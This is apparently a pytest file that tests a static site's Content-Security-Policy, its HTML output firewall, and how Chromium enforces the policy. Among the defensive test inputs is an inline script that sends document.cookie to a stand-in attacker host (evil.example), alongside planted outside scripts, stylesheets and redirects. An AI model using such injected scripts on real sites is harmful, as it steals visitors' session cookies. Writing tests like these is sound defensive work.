"""Every page carries the site's Content-Security-Policy (kb/publish/csp.py), the firewall holds pages to it, and a
browser enforces it: the site as built causes no violation, and an outside load planted in a page is blocked.

The policy allows scripts from the site itself and the theme's inline scripts by hash, from the same list the
output firewall reads (kb.publish.csp.INLINE_SCRIPTS); no origin but the site's.
"""
from __future__ import annotations

import re

import pytest
from browser import chromium, search, serve
from playwright.sync_api import Error as PlaywrightError

from conftest import SITE_PORT, SITE_URL, build, edit
from kb.project import layout
from kb.publish.csp import DIRECTIVES, INLINE_SCRIPTS, POLICY, script_hash, site_inline_scripts
from kb.publish.csp import main as csp_main
from kb.publish.html_rules import Scripts, inspect_html

KEYWORDS = {"'self'", "'none'", "'wasm-unsafe-eval'", "'unsafe-inline'", "data:"}


# ---- the policy ---------------------------------------------------------------------------------------------

def test_the_policy_names_no_other_origin_and_runs_only_the_sites_scripts():
    directives = dict(DIRECTIVES)
    for name, value in directives.items():
        for source in value.split():
            assert source in KEYWORDS or re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", source), (name, source)
    assert directives["default-src"] == "'self'"
    assert directives["object-src"] == "'none'" and directives["base-uri"] == "'self'"
    assert directives["form-action"] == "'self'"
    scripts = directives["script-src"].split()
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
    assert {f"'{digest}'" for digest in INLINE_SCRIPTS} | {"'self'", "'wasm-unsafe-eval'"} == set(scripts)
    assert "data:" not in directives["script-src"] + directives["connect-src"] + directives["style-src"]
    assert "'unsafe-inline'" not in directives["style-src"]  # style elements: none; attributes: style-src-attr


# ---- the firewall holds each page to it ---------------------------------------------------------------------

META = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'


def findings(head: str = "", body: str = "", meta: str = META) -> list[str]:
    """The firewall's findings in a small page served at SITE_URL, with the site's theme files as its only files."""
    scripts = Scripts(lambda rel: rel in {"assets/kb.css", "assets/javascripts/bundle.js"}, frozenset(INLINE_SCRIPTS),
                      "/", SITE_URL)
    document = f"<!doctype html><html lang=en><head><meta charset=utf-8>{meta}{head}</head><body>{body}</body></html>"
    return inspect_html(document.encode(), "issues/007/index.html", scripts).findings


def test_a_page_as_the_site_writes_it_passes():
    assert script_hash(PALETTE) in INLINE_SCRIPTS
    head = (f'<link rel="stylesheet" href="../../assets/kb.css"><link rel="canonical" href="{SITE_URL}issues/007/">'
            f'<link rel="alternate" href="{SITE_URL}en/" hreflang="en"><link rel="alternate" type="application/rss+xml" '
            f'href="../../feed.xml"><script>{PALETTE}</script><script src="../../assets/javascripts/bundle.js"></script>')
    assert findings(head) == []


# Material's palette script, as its template (partials/javascripts/palette.html) writes it
PALETTE = ("var palette=__md_get(\"__palette\");if(palette&&palette.color){if(\"(prefers-color-scheme)\"===palette.color"
           ".media){var media=matchMedia(\"(prefers-color-scheme: light)\"),input=document.querySelector(media.matches?"
           "\"[data-md-color-media='(prefers-color-scheme: light)']\":\"[data-md-color-media='(prefers-color-scheme: "
           "dark)']\");palette.color.media=input.getAttribute(\"data-md-color-media\"),palette.color.scheme=input."
           "getAttribute(\"data-md-color-scheme\"),palette.color.primary=input.getAttribute(\"data-md-color-primary\"),"
           "palette.color.accent=input.getAttribute(\"data-md-color-accent\")}for(var[key,value]of Object.entries("
           "palette.color))document.body.setAttribute(\"data-md-color-\"+key,value)}")

REFUSED = {
    "an inline script a template adds": ("<script>fetch('https://evil.example/'+document.cookie)</script>", "",
                                         "inline script that kb.publish.csp.INLINE_SCRIPTS does not list (sha256-"),
    "a listed script changed by one character": (f"<script>{PALETTE} </script>", "", "does not list"),
    "an outside stylesheet (extra_css)": ('<link rel="stylesheet" href="https://evil.example/x.css">', "",
                                          "which is not a file of the theme or the project"),
    "a protocol-relative stylesheet": ('<link rel="stylesheet" href="//evil.example/x.css">', "", "not a file of the theme"),
    "a stylesheet that is no theme file": ('<link rel="stylesheet" href="../../assets/evil.css">', "", "not a file"),
    "Google Fonts": ('<link rel="preconnect" href="https://fonts.gstatic.com">', "", 'has <link rel="preconnect"> to https://fonts.gstatic.com'),
    "an outside icon": ('<link rel="icon" href="https://evil.example/x.png">', "", "not a file of the theme"),
    "a preload from another site": ('<link rel="preload" as="script" href="https://evil.example/x.js">', "", "not a file"),
    "a canonical address elsewhere": ('<link rel="canonical" href="https://evil.example/">', "", "to another site"),
    "an alternate on a look-alike host": (f'<link rel="alternate" href="{SITE_URL.rstrip("/")}0.evil.example/">', "",
                                          "to another site"),
    "a link in the content": ("", '<link rel="stylesheet" href="https://evil.example/x.css">', "not a file"),
    "an outside image in a srcset": ("", '<img src="x.png" srcset="x.png 1x, https://evil.example/x.png 2x" alt="">',
                                     "loads an image from another site"),
    "an outside video poster": ("", '<video poster="//evil.example/x.png"></video>', "from another site"),
    "an outside picture source": ("", '<picture><source srcset="https://evil.example/x.webp"></picture>',
                                  "from another site"),
    "a refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "", "http-equiv=refresh"),
    "a second, looser policy": ("<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">", "",
                                "not the site's own Content-Security-Policy"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_the_firewall_refuses(case):
    head, body, said = REFUSED[case]
    found = findings(head, body)
    assert any(said in finding for finding in found), found


def test_a_page_without_the_policy_or_with_it_too_late_or_changed_is_refused():
    assert any("has no Content-Security-Policy" in f for f in findings(meta=""))
    late = findings(meta="", head=f"<script src=\"../../assets/javascripts/bundle.js\"></script>{META}")
    assert any("before any script" in f for f in late), late
    looser = META.replace("object-src 'none'", "object-src *")
    assert any("not the site's own" in f for f in findings(meta=looser))
    assert any("in <head>" in f for f in findings(meta="", body=META))  # a policy in the body governs nothing before it


# ---- the built site -----------------------------------------------------------------------------------------

def test_every_built_page_carries_the_policy_first_and_the_list_of_inline_scripts_is_exact(site):
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        head = page.read_text(encoding="utf-8").split("</head>", 1)[0]
        assert head.count('http-equiv="Content-Security-Policy"') == 1, page
        assert head.index("Content-Security-Policy") < min(head.find(tag) for tag in ("<script", "<link")), page
    # every inline script the site runs is listed (the firewall refuses any other), and every listed one is run
    assert set(site_inline_scripts(site)) == set(INLINE_SCRIPTS)


def test_the_helper_prints_the_hashes_to_list(site, capsys):
    assert csp_main([str(site)]) == 0
    printed = capsys.readouterr().out
    assert sorted(re.findall(r'"(sha256-[^"]+)"', printed)) == sorted(INLINE_SCRIPTS)
    assert "NOT LISTED" not in printed


# ---- in the browser -----------------------------------------------------------------------------------------

VIOLATIONS = """window.__csp = [];
document.addEventListener('securitypolicyviolation', e => window.__csp.push(
  `${e.effectiveDirective} blocked ${e.blockedURI || '(inline)'} at ${e.sourceFile || ''}:${e.lineNumber}`));"""


@pytest.fixture(scope="module")
def browser(site):
    with serve(site, SITE_PORT) as url, chromium() as chrome:
        yield chrome, url


def watched(chrome):
    """A page that records every CSP violation: the document's events and the console's reports."""
    page = chrome.new_page()
    page.set_default_timeout(15_000)
    page.add_init_script(VIOLATIONS)
    console = []
    page.on("console", lambda m: console.append(m.text) if "Content Security Policy" in m.text else None)
    return page, console


def page_kinds(catalog) -> list[str]:
    issue = catalog.issues[0]
    topic = next(iter(catalog.topics.values()))
    entity = next(iter(catalog.entities.values()))
    return ["index.md", issue.page, topic.page, entity.page, layout.WATCH_PAGE, layout.CLAIMS_PAGE]


def test_no_page_kind_violates_the_policy_in_either_language_search_included(browser, catalog):
    chrome, root = browser
    page, console = watched(chrome)
    seen = []
    for lang in layout.LANGUAGES:
        for kind in page_kinds(catalog):
            url = root + layout.built_file(kind, lang).removesuffix("index.html")
            page.goto(url, wait_until="load")
            page.wait_for_timeout(100)
            seen += [f"{url}: {v}" for v in page.evaluate("window.__csp")]
        # the search: Pagefind's script, its WebAssembly and its index pieces load as the query is typed
        page.goto(root + layout.language_home(lang), wait_until="load")
        try:
            results = search(page, "vLLM")
        except PlaywrightError as error:  # the policy blocked Pagefind (without 'wasm-unsafe-eval', say)
            pytest.fail(f"{lang}: the search did not answer ({error.message.splitlines()[0]}); violations: "
                        f"{page.evaluate('window.__csp')}; console: {console}")
        assert results, f"{lang}: the search found nothing, so Pagefind did not run"
        assert page.evaluate("typeof WebAssembly === 'object' && performance.getEntriesByType('resource')"
                             ".some(r => r.name.includes('.pagefind'))")
        seen += [f"search ({lang}): {v}" for v in page.evaluate("window.__csp")]
    # the language switch: Material fetches the other language's sitemap.xml before it goes there
    issue = catalog.issues[0].page
    page.goto(root + layout.built_file(issue, "zh").removesuffix("index.html"), wait_until="load")
    page.click("div.md-select button")
    page.click('.md-select__link[hreflang="en"]')
    page.wait_for_url(root + layout.built_file(issue, "en").removesuffix("index.html"))
    seen += [f"language switch: {v}" for v in page.evaluate("window.__csp")]
    page.close()
    assert seen == [] and console == []


def test_an_outside_load_planted_in_a_page_is_blocked_by_the_browser(browser, site):
    """The firewall out of the way: the page as served holds an outside image, an outside script and an inline
    script; the browser loads none of them and reports each."""
    chrome, root = browser
    page, console = watched(chrome)
    built = (site / layout.built_file("about.md", "en")).read_text(encoding="utf-8")
    planted = built.replace("</article>", '<img src="https://example.invalid/x.png" alt="">'
                                          '<script src="https://example.invalid/x.js"></script>'
                                          "<script>window.__ran = true</script></article>", 1)
    assert planted != built
    outside = []
    page.route("**/example.invalid/**", lambda route: (outside.append(route.request.url), route.abort()))
    page.route(root + "en/about/", lambda route: route.fulfill(body=planted, content_type="text/html; charset=utf-8"))
    page.goto(root + "en/about/", wait_until="load")
    page.wait_for_timeout(200)
    violations = page.evaluate("window.__csp")
    assert any(v.startswith("img-src blocked https://example.invalid/x.png") for v in violations), violations
    assert any(v.startswith("script-src-elem blocked https://example.invalid/x.js") for v in violations), violations
    assert any(v.startswith("script-src-elem blocked inline") for v in violations), violations
    assert page.evaluate("window.__ran") is None
    assert outside == []  # never requested: blocked before the network
    page.close()


# ---- code changes that got past kb check before, stopped by the build too ----------------------------------

@pytest.mark.full
def test_the_build_refuses_a_theme_script_an_outside_stylesheet_and_web_fonts(project, tmp_path):
    edit(project, "overrides/main.html", "{% block content %}", "{% block content %}<script>alert(1)</script>")
    edit(project, "mkdocs.yml", "  - assets/kb.css\n", "  - assets/kb.css\n  - https://evil.example/x.css\n")
    edit(project, "mkdocs.yml", "font: false", "font: {text: Roboto}")
    result = build(project, tmp_path / "site")
    log = result.stdout + result.stderr
    assert result.returncode != 0, log
    assert "inline script that kb.publish.csp.INLINE_SCRIPTS does not list" in log
    assert "loads https://evil.example/x.css" in log
    assert "fonts.googleapis.com" in log and "fonts.gstatic.com" in log
